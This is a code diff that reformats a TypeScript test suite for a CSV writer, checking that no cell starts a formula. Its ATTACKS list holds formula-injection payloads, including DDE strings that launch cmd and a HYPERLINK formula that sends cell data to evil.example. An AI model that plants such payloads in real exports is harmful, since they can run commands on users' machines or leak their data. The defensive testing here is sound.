@@ -3,8 +3,19 @@ import { csvCell, inertText, isPlainNumber, restoreText, toCsv } from './csv.ts'
 
 /** Defect 10 (issue 11): formula injection through CSV / XLSX cells. */
 export const ATTACKS = [
-  "-1+1+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', '+1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '\t=1+1', '\r=1+1', '\n=1+1', '-2+3', '-', '=', '--1', '-1e5+1', '-.5+1',
+  "-1+1+cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+  '+1+1',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '-2+3',
+  '-',
+  '=',
+  '--1',
+  '-1e5+1',
+  '-.5+1',
 ];
 
 describe('the one CSV writer: no cell starts a formula', () => {
@@ -31,7 +42,12 @@ describe('the one CSV writer: no cell starts a formula', () => {
   });
 
   it('writes a BOM, CRLF and a header row; restoreText undoes inertText exactly', () => {
-    expect(toCsv([['a', 'b'], ['=1', -3]])).toBe("\uFEFFa,b\r\n'=1,-3\r\n");
+    expect(
+      toCsv([
+        ['a', 'b'],
+        ['=1', -3],
+      ]),
+    ).toBe("\uFEFFa,b\r\n'=1,-3\r\n");
     for (const s of [...ATTACKS, 'plain', "'quoted already", '-12.5']) expect(restoreText(inertText(s))).toBe(s);
   });
 });
